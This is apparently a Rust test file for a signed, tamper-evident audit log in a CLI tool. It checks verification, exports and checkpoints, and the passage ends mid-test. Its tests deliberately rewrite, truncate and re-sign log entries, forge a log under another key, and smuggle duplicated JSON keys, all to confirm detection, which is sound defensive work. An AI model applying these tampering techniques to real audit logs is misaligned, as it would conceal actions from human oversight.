//! The signed audit log: commands end to end, tamper vectors kept as files, and property
//! tests that random logs verify and random single mutations never do.

mod support;

use std::path::{Path, PathBuf};

use proptest::prelude::*;
use smv::audit::{self, AuditLog, Channel, LogKey, Outcome, Record};
use support::Sandbox;

fn vectors() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/vectors/audit")
}

fn record(i: usize, outcome: Outcome, request_id: &str) -> Record {
    let mut details = serde_json::Map::new();
    details.insert("n".into(), (i as u64).into());
    Record {
        actor: ["alice", "bob", "joe"][i % 3].into(),
        channel: if i.is_multiple_of(4) {
            Channel::Token(format!("tok{i}"))
        } else {
            Channel::Local
        },
        action: ["account.add", "grant", "post"][i % 3].into(),
        target: format!("account:acc-{}", i % 2),
        outcome,
        reason: (outcome == Outcome::Denied).then(|| "only an admin may do this".to_string()),
        request_id: request_id.into(),
        details,
    }
}

// ---------------------------------------------------------------------------------------
// Through the CLI.

#[test]
fn every_action_is_logged_and_the_log_verifies() {
    let s = Sandbox::new();
    s.init();
    s.smv_in(
        &[
            "account",
            "add",
            "x-main",
            "--provider",
            "x",
            "--secret-stdin",
        ],
        &support::x_cred("tok-9"),
    )
    .ok();
    let bob = s.add_custodian("bob", "member");
    s.smv_as(&bob, &["account", "add", "y", "--provider", "outbox"])
        .fails(4);

    let log = s.smv(&["audit", "log", "--json"]).ok().json();
    let entries = log.as_array().unwrap();
    assert!(
        entries.iter().any(|e| e["actor"] == "bob"
            && e["outcome"] == "denied"
            && e["action"] == "account.add")
    );
    // The secret is referred to by its keyed hash, which `smv audit hash` reproduces.
    let hmac = s
        .smv_in(&["audit", "hash", "--stdin"], &support::x_cred("tok-9"))
        .ok()
        .stdout
        .trim()
        .to_string();
    assert!(
        entries
            .iter()
            .any(|e| e["details"]["secret_hmac"] == hmac.as_str()),
        "{hmac} not in {log}"
    );
    // Filters.
    let only = s
        .smv(&["audit", "log", "--account", "x-main", "--json"])
        .ok()
        .json();
    assert!(
        only.as_array()
            .unwrap()
            .iter()
            .all(|e| e["target"] == "account:x-main")
    );
    let by_bob = s
        .smv(&[
            "audit",
            "log",
            "--member",
            "bob",
            "--action",
            "account.add",
            "--json",
        ])
        .ok()
        .json();
    assert_eq!(by_bob.as_array().unwrap().len(), 1);
    assert_eq!(
        s.smv(&["audit", "log", "--since", "2999-01-01", "--json"])
            .ok()
            .json(),
        serde_json::json!([])
    );
    // Relative times are read (issue 19); what is not a time is refused.
    s.smv(&["audit", "log", "--since", "yesterday"]).ok();
    s.smv(&["audit", "log", "--since", "next thursday"])
        .fails(2);
    s.smv(&["audit", "log"]).ok().stdout_has("account.add");

    let v = s.smv(&["audit", "verify", "--json"]).ok().json();
    assert!(v["entries"].as_u64().unwrap() >= 6);
    assert!(
        v["checkpoint"]
            .as_str()
            .unwrap()
            .contains("\n\u{2014} smv-audit/")
    );

    // A member may not read the log, and the refusal is logged.
    s.smv_as(&bob, &["audit", "log"]).fails(4);
    s.smv_as(&bob, &["audit", "verify"]).fails(4);
}

#[test]
fn show_proves_inclusion_and_checkpoint_pubkey_verify_offline() {
    let s = Sandbox::new();
    s.init();
    for i in 0..5 {
        s.smv(&["account", "add", &format!("a{i}"), "--provider", "outbox"])
            .ok();
    }
    let shown = s.smv(&["audit", "show", "3", "--json"]).ok().json();
    assert_eq!(shown["entry"]["seq"], 3);
    assert_eq!(shown["proof_verified"], true);
    assert!(!shown["proof"].as_array().unwrap().is_empty());
    s.smv(&["audit", "show", "999"]).fails(3);

    let cp = s.home().join("cp.txt");
    std::fs::write(&cp, s.smv(&["audit", "checkpoint"]).ok().stdout).unwrap();
    let pubkey = s.smv(&["audit", "pubkey"]).ok().stdout.trim().to_string();
    assert!(pubkey.starts_with("smv-audit/"), "{pubkey}");

    s.smv(&["account", "add", "later", "--provider", "outbox"])
        .ok();
    // The auditor has only the log file, the public key and the old checkpoint: no vault,
    // no identity (a fresh HOME).
    let auditor = Sandbox::new();
    let copy = auditor.home().join("log.sqlite");
    std::fs::copy(s.audit(), &copy).unwrap();
    let r = auditor
        .smv(&[
            "audit",
            "verify",
            "--log",
            copy.to_str().unwrap(),
            "--pubkey",
            &pubkey,
            "--checkpoint",
            cp.to_str().unwrap(),
            "--json",
        ])
        .ok()
        .json();
    // Seven changes, each an intent and an outcome, with its vault write's own two.
    assert_eq!(r["entries"], 28);
    assert!(r["extends_checkpoint"].as_u64().unwrap() > 0);
}

#[test]
fn exports_verify_offline_and_csv_is_plain() {
    let s = Sandbox::new();
    s.init();
    for i in 0..4 {
        s.smv(&["account", "add", &format!("a{i}"), "--provider", "outbox"])
            .ok();
    }
    let pubkey = s.smv(&["audit", "pubkey"]).ok().stdout.trim().to_string();
    let full = s.home().join("full.jsonl");
    s.smv(&[
        "audit",
        "export",
        "--format",
        "jsonl",
        "--out",
        full.to_str().unwrap(),
    ])
    .ok();
    s.smv(&[
        "audit",
        "export",
        "--format",
        "jsonl",
        "--out",
        full.to_str().unwrap(),
    ])
    // Every refusal to overwrite a file exits 5 (issue 24).
    .fails(5)
    .stderr_has("never writes over an existing file");
    let sel = s.home().join("sel.jsonl");
    s.smv(&[
        "audit",
        "export",
        "--format",
        "jsonl",
        "--account",
        "a2",
        "--out",
        sel.to_str().unwrap(),
    ])
    .ok();
    let auditor = Sandbox::new();
    for (file, n) in [(&full, 20), (&sel, 2)] {
        let r = auditor
            .smv(&[
                "audit",
                "verify",
                "--log",
                file.to_str().unwrap(),
                "--pubkey",
                &pubkey,
                "--json",
            ])
            .ok()
            .json();
        assert_eq!(r["entries"], n, "{}", file.display());
    }
    let csv = s
        .smv(&[
            "audit",
            "export",
            "--format",
            "csv",
            "--action",
            "account.add",
        ])
        .ok()
        .stdout;
    let mut lines = csv.lines();
    assert_eq!(
        lines.next().unwrap(),
        "seq,time,actor,channel,action,target,outcome,reason,request_id,details"
    );
    assert_eq!(lines.count(), 8);
    // Exports are themselves audited (three succeeded; the refused overwrite wrote nothing).
    let log = s
        .smv(&["audit", "log", "--action", "audit.export", "--json"])
        .ok()
        .json();
    assert_eq!(log.as_array().unwrap().len(), 3);
}

#[test]
fn an_interrupted_action_is_incomplete_not_tampering() {
    let s = Sandbox::new();
    s.init();
    let mut cmd = s.command();
    cmd.env("SMV_FAILPOINT", "vault-before-rename:abort").args([
        "account",
        "add",
        "lost",
        "--provider",
        "outbox",
    ]);
    assert_ne!(s.run_cmd(cmd, None).code, 0);
    let v = s.smv(&["audit", "verify", "--json"]).ok().json();
    // The change's intent, and the intent of the vault write it would have made.
    assert_eq!(v["incomplete"], serde_json::json!([5, 6]));
    s.smv(&["audit", "verify"]).ok().stdout_has("incomplete");
}

/// A vault with `accounts` accounts (a0, a1…), whose first log entry about account
/// `changed` has that name replaced by `a9` in its stored bytes, as an editor of the file
/// would; returns the entry's seq.
fn log_with_a_changed_entry(accounts: usize, changed: &str) -> (Sandbox, i64) {
    let s = Sandbox::new();
    s.init();
    for i in 0..accounts {
        s.smv(&["account", "add", &format!("a{i}"), "--provider", "outbox"])
            .ok();
    }
    let conn = rusqlite::Connection::open(s.audit()).unwrap();
    let seq: i64 = conn
        .query_row(
            "SELECT MIN(seq) FROM entries WHERE target = ?1",
            [format!("account:{changed}")],
            |r| r.get(0),
        )
        .unwrap();
    conn.execute(
        "UPDATE entries SET body = CAST(replace(CAST(body AS TEXT), ?2, 'a9') AS BLOB) WHERE seq = ?1",
        (seq, changed),
    )
    .unwrap();
    (s, seq)
}

#[test]
fn tampering_with_the_live_log_is_named() {
    let (s, seq) = log_with_a_changed_entry(6, "a3");
    let named = format!("entry {seq}");
    s.smv(&["audit", "verify"])
        .fails(10)
        .stderr_has(&named)
        .stderr_has("keep the file");
    // A changed log still takes appends, and verify keeps naming the first bad entry.
    s.smv(&["account", "add", "after", "--provider", "outbox"])
        .ok();
    s.smv(&["audit", "verify", "--json"])
        .fails(10)
        .stderr_has(&named);
}

#[test]
fn cutting_off_the_live_log_is_caught() {
    let s = Sandbox::new();
    s.init();
    for i in 0..4 {
        s.smv(&["account", "add", &format!("a{i}"), "--provider", "outbox"])
            .ok();
    }
    let cp = s.home().join("cp.txt");
    std::fs::write(&cp, s.smv(&["audit", "checkpoint"]).ok().stdout).unwrap();
    s.smv(&["audit", "verify", "--checkpoint", cp.to_str().unwrap()])
        .ok()
        .stdout_has("extends the given checkpoint");
    let conn = rusqlite::Connection::open(s.audit()).unwrap();
    conn.execute("DELETE FROM entries WHERE seq > 6", [])
        .unwrap();
    drop(conn);
    s.smv(&["audit", "verify", "--checkpoint", cp.to_str().unwrap()])
        .fails(10)
        .stderr_has("cut off");
    // Nothing is appended to a log that was cut back (every command refuses it), and
    // verify keeps saying so.
    s.smv(&["account", "add", "after", "--provider", "outbox"])
        .fails(7);
    s.smv(&["audit", "verify"]).fails(10).stderr_has("cut off");
}

// ---------------------------------------------------------------------------------------
// Tamper vectors: files under tests/vectors/audit, described by manifest.json.

#[derive(serde::Deserialize)]
struct Case {
    file: String,
    #[serde(default)]
    checkpoint: Option<String>,
    #[serde(default)]
    pubkey: Option<String>,
    /// None: must verify. Some(text): must fail, with this text in the error.
    #[serde(default)]
    error: Option<String>,
    why: String,
}

#[test]
fn tamper_vectors() {
    let dir = vectors();
    let manifest: Vec<Case> =
        serde_json::from_str(&std::fs::read_to_string(dir.join("manifest.json")).unwrap()).unwrap();
    let listed: Vec<&str> = manifest.iter().map(|c| c.file.as_str()).collect();
    for entry in std::fs::read_dir(&dir).unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.ends_with(".jsonl") {
            assert!(
                listed.contains(&name.as_str()),
                "{name} is not in manifest.json"
            );
        }
    }
    let s = Sandbox::new();
    for case in &manifest {
        let log = dir.join(&case.file);
        let pubkey = dir.join(case.pubkey.as_deref().unwrap_or("pubkey.txt"));
        let mut args = vec![
            "audit".to_string(),
            "verify".into(),
            "--log".into(),
            log.display().to_string(),
            "--pubkey".into(),
            pubkey.display().to_string(),
        ];
        if let Some(cp) = &case.checkpoint {
            args.extend(["--checkpoint".into(), dir.join(cp).display().to_string()]);
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let run = s.smv(&args);
        match &case.error {
            None => assert_eq!(
                run.code, 0,
                "{} ({}) should verify: {}",
                case.file, case.why, run.stderr
            ),
            Some(expected) => {
                assert_eq!(
                    run.code, 10,
                    "{} ({}) should fail with 10: {}{}",
                    case.file, case.why, run.stdout, run.stderr
                );
                assert!(
                    run.stderr.contains(expected.as_str()),
                    "{} ({}): expected {expected:?} in {}",
                    case.file,
                    case.why,
                    run.stderr
                );
            }
        }
    }
}

/// Rebuilds the vectors from a fixed key (run with `cargo test --test audit_log -- --ignored`
/// after a deliberate format change, then review the diff).
#[test]
#[ignore]
fn regenerate_vectors() {
    let dir = vectors();
    let origin = "smv-audit/vectors";
    let make_log = |seed: u8, tag: &str, n: usize, path: &Path| {
        let _ = std::fs::remove_file(path);
        let key = LogKey::from_seed(origin, &[seed; 32]).unwrap();
        let mut log = AuditLog::create(path, key).unwrap();
        for i in 0..n {
            let rid = format!("{tag}{i:04}");
            let outcome = if i % 5 == 3 {
                Outcome::Denied
            } else {
                Outcome::Ok
            };
            if outcome == Outcome::Ok {
                log.append(&record(i, Outcome::Intent, &rid)).unwrap();
            }
            log.append(&record(i, outcome, &rid)).unwrap();
        }
        log
    };
    let tmp = tempfile::tempdir().unwrap();
    let key = LogKey::from_seed(origin, &[7; 32]).unwrap();
    let other = LogKey::from_seed(origin, &[8; 32]).unwrap();
    std::fs::write(dir.join("pubkey.txt"), format!("{}\n", key.verifier_key())).unwrap();
    std::fs::write(
        dir.join("other-pubkey.txt"),
        format!("{}\n", other.verifier_key()),
    )
    .unwrap();

    let log = make_log(7, "r", 10, &tmp.path().join("a.sqlite"));
    let ok = export(&log, &key, &Default::default());
    std::fs::write(dir.join("ok_range.jsonl"), &ok).unwrap();
    let sel = audit::Filter {
        account: Some("acc-1".into()),
        ..Default::default()
    };
    std::fs::write(dir.join("ok_selection.jsonl"), export(&log, &key, &sel)).unwrap();
    let latest = log.latest().unwrap().unwrap();
    std::fs::write(
        dir.join("checkpoint_latest.txt"),
        audit::key::checkpoint_note(origin, latest.size, &latest.root, origin, &latest.sig),
    )
    .unwrap();
    // A checkpoint kept from when the log had 8 entries (every action's checkpoint is signed).
    let row8 = log.stored(8).unwrap().unwrap();
    let sig8 = key.sign(8, &row8.root).unwrap();
    std::fs::write(
        dir.join("checkpoint_8.txt"),
        audit::key::checkpoint_note(origin, 8, &row8.root, origin, &sig8),
    )
    .unwrap();

    let lines: Vec<&str> = ok.lines().collect();
    let write =
        |name: &str, ls: &[String]| std::fs::write(dir.join(name), ls.join("\n") + "\n").unwrap();
    let owned = |ls: &[&str]| ls.iter().map(|l| l.to_string()).collect::<Vec<_>>();
    // Line i + 1 holds entry i (line 0 is the header).
    let flip = |entry: usize, from: &str, to: &str| {
        let mut ls = owned(&lines);
        assert!(ls[entry].contains(from), "{from} not in line {entry}");
        ls[entry] = ls[entry].replacen(from, to, 1);
        ls
    };
    write(
        "fail_flipped_actor.jsonl",
        &flip(5, "\"actor\":\"", "\"actor\":\"X"),
    );
    write(
        "fail_flipped_time.jsonl",
        &flip(6, "\"time\":\"2", "\"time\":\"3"),
    );
    write(
        "fail_flipped_outcome.jsonl",
        &flip(7, "\"outcome\":\"denied\"", "\"outcome\":\"ok\""),
    );
    write("fail_flipped_target.jsonl", &flip(2, "acc-", "acd-"));
    write("fail_flipped_details.jsonl", &flip(9, "\"n\":", "\"n\":1"));
    write(
        "fail_flipped_action.jsonl",
        &flip(9, "\"action\":\"", "\"action\":\"x"),
    );
    write(
        "fail_flipped_request_id.jsonl",
        &flip(3, "\"request_id\":\"r", "\"request_id\":\"s"),
    );
    write(
        "fail_flipped_channel.jsonl",
        &flip(1, "\"kind\":\"token\"", "\"kind\":\"local\""),
    );
    write("fail_flipped_seq.jsonl", &flip(8, "\"seq\":8", "\"seq\":9"));
    write(
        "fail_unknown_field.jsonl",
        &flip(5, "{\"seq\"", "{\"extra\":1,\"seq\""),
    );
    {
        let mut ls = owned(&lines);
        let line = &ls[6];
        let i = line.find("\"root\":\"").unwrap() + 8;
        let c = if &line[i..i + 1] == "A" { "B" } else { "A" };
        ls[6] = format!("{}{}{}", &line[..i], c, &line[i + 1..]);
        write("fail_flipped_root.jsonl", &ls);
        // The signature of the header's checkpoint.
        let mut ls = owned(&lines);
        let marker = "\\n\u{2014} smv-audit/vectors ";
        let i = ls[0].find(marker).unwrap() + marker.len() + 10;
        let c = if &ls[0][i..i + 1] == "A" { "B" } else { "A" };
        ls[0] = format!("{}{}{}", &ls[0][..i], c, &ls[0][i + 1..]);
        write("fail_flipped_signature.jsonl", &ls);
    }
    {
        let mut ls = owned(&lines);
        ls.remove(6);
        write("fail_deleted_middle.jsonl", &ls);
        let mut ls = owned(&lines);
        ls.swap(4, 5);
        write("fail_swapped.jsonl", &ls);
    }
    // The last 4 entries cut off by someone holding the key, who re-signed the shorter log:
    // consistent on its own, caught against a checkpoint kept from before.
    {
        let copy = tmp.path().join("cut.sqlite");
        drop(log);
        std::fs::copy(tmp.path().join("a.sqlite"), &copy).unwrap();
        let mut f = smv::audit::merkle::Frontier::new();
        let cut = latest.size - 4;
        let reader = AuditLog::open_read_only(&copy).unwrap();
        for leaf in reader.leaves(cut).unwrap() {
            f.push(leaf);
        }
        drop(reader);
        let conn = rusqlite::Connection::open(&copy).unwrap();
        conn.execute("DELETE FROM entries WHERE seq > ?1", [cut as i64])
            .unwrap();
        conn.execute(
            "UPDATE state SET size = ?1, frontier = ?2, sig = ?3",
            (
                cut as i64,
                smv::audit::store_frontier_bytes(&f),
                key.sign(cut, &f.root()).unwrap(),
            ),
        )
        .unwrap();
        drop(conn);
        let cut_log = AuditLog::open_read_only(&copy).unwrap();
        std::fs::write(
            dir.join("fail_truncated.jsonl"),
            export(&cut_log, &key, &Default::default()),
        )
        .unwrap();
    }
    // The same history signed by another key.
    let forged = make_log(8, "r", 10, &tmp.path().join("b.sqlite"));
    // The forger also writes the real key's name into the header.
    let forged_export = export(&forged, &other, &Default::default()).replacen(
        &other.verifier_key(),
        &key.verifier_key(),
        1,
    );
    std::fs::write(dir.join("fail_other_key.jsonl"), forged_export).unwrap();
    let row = forged.stored(8).unwrap().unwrap();
    std::fs::write(
        dir.join("checkpoint_other_key.txt"),
        audit::key::checkpoint_note(
            origin,
            8,
            &row.root,
            origin,
            &other.sign(8, &row.root).unwrap(),
        ),
    )
    .unwrap();
    // A rewritten history, freshly signed with the real key (an insider with the vault):
    // valid on its own, caught against a checkpoint kept elsewhere.
    let rewritten = make_log(7, "w", 10, &tmp.path().join("c.sqlite"));
    std::fs::write(
        dir.join("fail_rewritten.jsonl"),
        export(&rewritten, &key, &Default::default()),
    )
    .unwrap();
    {
        let log = AuditLog::open_read_only(&tmp.path().join("a.sqlite")).unwrap();
        let sel = export(&log, &key, &sel);
        let mut ls: Vec<String> = sel.lines().map(String::from).collect();
        let n = ls.len() - 1;
        ls[n] = ls[n].replacen("\"actor\":\"", "\"actor\":\"Z", 1);
        write("fail_selection_flipped.jsonl", &ls);
    }
}

// ---------------------------------------------------------------------------------------
// Properties.

fn random_log(n: usize, dir: &Path) -> (AuditLog, LogKey) {
    let key = LogKey::from_seed("smv-audit/prop", &[3; 32]).unwrap();
    let mut log = AuditLog::create(
        &dir.join("log.sqlite"),
        LogKey::from_seed("smv-audit/prop", &[3; 32]).unwrap(),
    )
    .unwrap();
    let records: Vec<Record> = (0..n)
        .map(|i| {
            record(
                i,
                if i % 3 == 0 {
                    Outcome::Intent
                } else {
                    Outcome::Ok
                },
                &format!("q{}", i / 3),
            )
        })
        .collect();
    // Mix single appends and group commits.
    let (a, b) = records.split_at(n / 2);
    for r in a {
        log.append(r).unwrap();
    }
    if !b.is_empty() {
        log.append_batch(b).unwrap();
    }
    (log, key)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn random_logs_verify(n in 1usize..120) {
        let dir = tempfile::tempdir().unwrap();
        let (log, key) = random_log(n, dir.path());
        let report = audit::verify_log(&log, &key.verifier().unwrap(), None, &mut |_| {}).unwrap();
        prop_assert_eq!(report.entries, n as u64);
        // And its range export verifies too.
        let mut out = Vec::new();
        audit::export::write_jsonl(&log, &key.verifier_key(), &Default::default(), None, &mut out, &mut |_, _| {}).unwrap();
        let r = audit::export::verify_jsonl(&mut &out[..], &key.verifier().unwrap(), None, &mut |_| {}).unwrap();
        prop_assert_eq!(r.entries, n as u64);
    }

    #[test]
    fn any_single_byte_change_to_a_stored_entry_is_caught(n in 2usize..80, pick in any::<prop::sample::Index>(), byte in any::<prop::sample::Index>(), xor in 1u8..=255, column in 0usize..4) {
        let dir = tempfile::tempdir().unwrap();
        let (log, key) = random_log(n, dir.path());
        drop(log);
        let seq = pick.index(n) as i64 + 1;
        let col = ["body", "leaf", "root", "actor"][column];
        let conn = rusqlite::Connection::open(dir.path().join("log.sqlite")).unwrap();
        let mut value: Vec<u8> = conn
            .query_row(&format!("SELECT CAST({col} AS BLOB) FROM entries WHERE seq = ?1"), [seq], |r| r.get(0))
            .unwrap();
        let i = byte.index(value.len());
        value[i] ^= xor;
        if col == "actor" {
            conn.execute("UPDATE entries SET actor = ?1 WHERE seq = ?2", (String::from_utf8_lossy(&value).into_owned(), seq)).unwrap();
        } else {
            conn.execute(&format!("UPDATE entries SET {col} = ?1 WHERE seq = ?2"), (&value, seq)).unwrap();
        }
        drop(conn);
        let log = AuditLog::open_read_only(&dir.path().join("log.sqlite")).unwrap();
        let result = audit::verify_log(&log, &key.verifier().unwrap(), None, &mut |_| {});
        prop_assert!(result.is_err(), "{} byte {} of entry {} changed, yet the log verifies", col, i, seq);
        let failure = result.unwrap_err();
        prop_assert_eq!(failure.seq, Some(seq as u64), "{}", failure);
    }

    #[test]
    fn a_changed_signature_or_state_is_caught(n in 1usize..40, byte in any::<prop::sample::Index>(), xor in 1u8..=255, target in 0usize..2) {
        let dir = tempfile::tempdir().unwrap();
        let (log, key) = random_log(n, dir.path());
        drop(log);
        let conn = rusqlite::Connection::open(dir.path().join("log.sqlite")).unwrap();
        let col = ["sig", "frontier"][target];
        let mut value: Vec<u8> = conn.query_row(&format!("SELECT CAST({col} AS BLOB) FROM state"), [], |r| r.get(0)).unwrap();
        if value.is_empty() {
            return Ok(());
        }
        let i = byte.index(value.len());
        value[i] ^= xor;
        if col == "sig" {
            conn.execute("UPDATE state SET sig = ?1", [String::from_utf8_lossy(&value).into_owned()]).unwrap();
        } else {
            conn.execute("UPDATE state SET frontier = ?1", [&value]).unwrap();
        }
        drop(conn);
        let log = AuditLog::open_read_only(&dir.path().join("log.sqlite")).unwrap();
        let verified = audit::verify_log(&log, &key.verifier().unwrap(), None, &mut |_| {});
        prop_assert!(verified.is_err(), "a changed {} still verifies", col);
    }

    #[test]
    fn any_single_byte_change_to_an_export_is_caught(n in 1usize..60, pick in any::<prop::sample::Index>(), xor in 1u8..=255) {
        let dir = tempfile::tempdir().unwrap();
        let (log, key) = random_log(n, dir.path());
        let mut out = Vec::new();
        audit::export::write_jsonl(&log, &key.verifier_key(), &Default::default(), None, &mut out, &mut |_, _| {}).unwrap();
        // Any byte but the line breaks (which only split lines differently).
        let positions: Vec<usize> = (0..out.len()).filter(|&i| out[i] != b'\n').collect();
        let i = positions[pick.index(positions.len())];
        out[i] ^= xor;
        let r = audit::export::verify_jsonl(&mut &out[..], &key.verifier().unwrap(), None, &mut |_| {});
        prop_assert!(r.is_err(), "byte {} changed, yet the export verifies", i);
    }
}

// ---------------------------------------------------------------------------------------
// Exports verify the bytes as written, and say what they prove.

fn export(log: &AuditLog, key: &LogKey, filter: &audit::Filter) -> String {
    let mut out = Vec::new();
    audit::export::write_jsonl(
        log,
        &key.verifier_key(),
        filter,
        None,
        &mut out,
        &mut |_, _| {},
    )
    .unwrap();
    String::from_utf8(out).unwrap()
}

fn verify_text(
    text: &str,
    key: &LogKey,
    checkpoint: Option<&str>,
) -> Result<audit::Report, audit::export::Rejected> {
    audit::export::verify_jsonl(
        &mut text.as_bytes(),
        &key.verifier().unwrap(),
        checkpoint,
        &mut |_| {},
    )
}

/// Rewrites the entry of export line `line` (0 is the header) with `edit`.
fn edit_line(text: &str, line: usize, edit: impl Fn(&str) -> String) -> String {
    text.lines()
        .enumerate()
        .map(|(i, l)| if i == line { edit(l) } else { l.to_string() })
        .collect::<Vec<_>>()
        .join("\n")
        + "\n"
}

type Edit = Box<dyn Fn(&str) -> String>;

#[test]
fn an_export_that_parses_the_same_but_is_written_otherwise_does_not_verify() {
    let dir = tempfile::tempdir().unwrap();
    let (log, key) = random_log(12, dir.path());
    let selection = audit::Filter {
        account: Some("acc-1".into()),
        ..Default::default()
    };
    for text in [
        export(&log, &key, &Default::default()),
        export(&log, &key, &selection),
    ] {
        assert!(verify_text(&text, &key, None).is_ok());
        let edits: [(&str, Edit); 5] = [
            // A key given twice: a JSON reader keeps the last, a person reads the first.
            (
                "a duplicated key",
                Box::new(|l: &str| {
                    l.replacen(
                        "\"details\":{\"n\":",
                        "\"details\":{\"n\":\"INJECTED\",\"n\":",
                        1,
                    )
                }),
            ),
            (
                "whitespace",
                Box::new(|l: &str| l.replacen("\"seq\":", "\"seq\": ", 1)),
            ),
            (
                "an escape",
                Box::new(|l: &str| {
                    l.replacen("alice", "\\u0061lice", 1)
                        .replacen("bob", "\\u0062ob", 1)
                        .replacen("\"joe\"", "\"\\u006aoe\"", 1)
                }),
            ),
            (
                "a null field",
                Box::new(|l: &str| {
                    l.replacen("\"reason\":", "\"reason\":null,\"x_reason\":", 1)
                        .replacen("\"request_id\":", "\"reason\":null,\"request_id\":", 1)
                }),
            ),
            (
                "whitespace around the entry",
                Box::new(|l: &str| l.replacen("{\"entry\":", "{\"entry\": ", 1)),
            ),
        ];
        for (what, edit) in &edits {
            let changed = edit_line(&text, 2, edit);
            assert_ne!(changed, text, "{what}: the edit changed nothing");
            match verify_text(&changed, &key, None) {
                Err(audit::export::Rejected::Failure(f)) => {
                    assert!(
                        f.reason.contains("canonical")
                            || f.reason.contains("as smv writes it")
                            || f.reason.contains("unreadable"),
                        "{what}: {f}"
                    )
                }
                other => {
                    panic!("{what}: an edited export verified or was refused oddly: {other:?}")
                }
            }
        }
    }
}

#[test]
fn a_full_export_of_more_than_1024_entries_verifies_offline() {
    let dir = tempfile::tempdir().unwrap();
    let (log, key) = random_log(1100, dir.path());
    let text = export(&log, &key, &Default::default());
    let r = verify_text(&text, &key, None).unwrap();
    assert_eq!(r.entries, 1100);
    assert_eq!(r.proves, audit::Proves::Range);
    // And cut short it does not.
    let cut: String = text.lines().take(1000).map(|l| format!("{l}\n")).collect();
    assert!(verify_text(&cut, &key, None).is_err());
}

fn checkpoint_text(log: &AuditLog, key: &LogKey) -> String {
    let latest = log.latest().unwrap().unwrap();
    audit::key::checkpoint_note(
        log.origin(),
        latest.size,
        &latest.root,
        key.origin(),
        &latest.sig,
    )
}

#[test]
fn a_selection_says_it_proves_inclusion_only_and_never_ignores_a_checkpoint() {
    let dir = tempfile::tempdir().unwrap();
    let (mut log, key) = random_log(30, dir.path());
    let early = checkpoint_text(&log, &key);
    for i in 30..40 {
        log.append(&record(i, Outcome::Ok, "z")).unwrap();
    }
    let selection = audit::Filter {
        account: Some("acc-0".into()),
        ..Default::default()
    };
    let text = export(&log, &key, &selection);
    let r = verify_text(&text, &key, None).unwrap();
    assert_eq!(r.proves, audit::Proves::Inclusion);
    // A deleted line still verifies (a selection cannot prove completeness), and says so.
    let fewer = edit_line(&text, 3, |_| String::new()).replace("\n\n", "\n");
    let r2 = verify_text(&fewer, &key, None).unwrap();
    assert_eq!(r2.entries + 1, r.entries);
    assert_eq!(r2.proves, audit::Proves::Inclusion);
    // The header names the filter.
    assert!(
        text.lines()
            .next()
            .unwrap()
            .contains("\"selection\":{\"account\":\"acc-0\"")
    );
    // An earlier checkpoint: the selection carries no proof of it, so the question is refused.
    assert!(matches!(
        verify_text(&text, &key, Some(&early)),
        Err(audit::export::Rejected::Unanswerable { .. })
    ));
    // Exported with that checkpoint, the header carries the proof, and it is checked.
    let since =
        audit::verify::external_checkpoint(&early, &key.verifier().unwrap(), log.origin()).unwrap();
    let mut out = Vec::new();
    audit::export::write_jsonl(
        &log,
        &key.verifier_key(),
        &selection,
        Some(&since),
        &mut out,
        &mut |_, _| {},
    )
    .unwrap();
    let with = String::from_utf8(out).unwrap();
    let r3 = verify_text(&with, &key, Some(&early)).unwrap();
    assert_eq!(r3.extends_checkpoint, Some(30));
    // The latest checkpoint (same size as the export's): compared directly.
    let latest = checkpoint_text(&log, &key);
    assert_eq!(
        verify_text(&text, &key, Some(&latest))
            .unwrap()
            .extends_checkpoint,
        Some(40)
    );
    // A range export that starts after the checkpoint needs the proof too.
    let range = audit::Filter {
        since: Some("2000-01-01T00:00:00Z".into()),
        ..Default::default()
    };
    assert!(verify_text(&export(&log, &key, &range), &key, Some(&early)).is_ok());
}

#[test]
fn verify_refuses_what_it_cannot_verify_as_usage_and_names_an_incomplete_copy() {
    let s = Sandbox::new();
    s.init();
    s.smv(&["account", "add", "a", "--provider", "outbox"]).ok();
    let pubkey = s.smv(&["audit", "pubkey"]).ok().stdout.trim().to_string();
    let auditor = Sandbox::new();
    let csv = s.home().join("log.csv");
    s.smv(&[
        "audit",
        "export",
        "--format",
        "csv",
        "--out",
        csv.to_str().unwrap(),
    ])
    .ok();
    auditor
        .smv(&[
            "audit",
            "verify",
            "--log",
            csv.to_str().unwrap(),
            "--pubkey",
            &pubkey,
        ])
        .fails(2)
        .stderr_has("CSV");
    let junk = s.home().join("junk.txt");
    std::fs::write(&junk, "hello\n").unwrap();
    auditor
        .smv(&[
            "audit",
            "verify",
            "--log",
            junk.to_str().unwrap(),
            "--pubkey",
            &pubkey,
        ])
        .fails(2);

    // A live log with entries still in its -wal file, copied without it.
    let conn = rusqlite::Connection::open(s.audit()).unwrap();
    conn.pragma_update(None, "wal_autocheckpoint", 0).unwrap();
    // Hold a reader so that nothing is folded back while smv appends.
    conn.execute_batch("BEGIN; SELECT COUNT(*) FROM entries;")
        .unwrap();
    for i in 0..3 {
        s.smv(&["account", "add", &format!("b{i}"), "--provider", "outbox"])
            .ok();
    }
    let raw = s.home().join("raw-copy.audit");
    std::fs::copy(s.audit(), &raw).unwrap();
    let good = s.home().join("backup.audit");
    s.smv(&["audit", "backup", good.to_str().unwrap()])
        .ok()
        .stdout_has("verified");
    conn.execute_batch("COMMIT").unwrap();
    drop(conn);
    let r = auditor.smv(&[
        "audit",
        "verify",
        "--log",
        raw.to_str().unwrap(),
        "--pubkey",
        &pubkey,
    ]);
    // Either the raw copy happens to hold everything, or it is named incomplete: never
    // called tampered.
    assert!(r.code == 0 || r.code == 7, "{} {}", r.code, r.stderr);
    if r.code == 7 {
        assert!(r.stderr.contains("incomplete"), "{}", r.stderr);
        assert!(r.stderr.contains("smv audit backup"), "{}", r.stderr);
    }
    let size = auditor
        .smv(&[
            "audit",
            "verify",
            "--log",
            good.to_str().unwrap(),
            "--pubkey",
            &pubkey,
            "--json",
        ])
        .ok()
        .json()["entries"]
        .as_u64()
        .unwrap();
    assert!(size >= 16, "{size}");
    assert!(!Path::new(&format!("{}-wal", good.display())).exists());
    // The backup refuses to overwrite: exit 5, like every refusal to overwrite a file.
    s.smv(&["audit", "backup", good.to_str().unwrap()])
        .fails(5)
        .stderr_has("never writes over an existing file");
}

#[test]
fn a_log_signed_by_another_key_fails_verify_as_tampered() {
    let s = Sandbox::new();
    s.init();
    s.smv(&["account", "add", "a", "--provider", "outbox"]).ok();
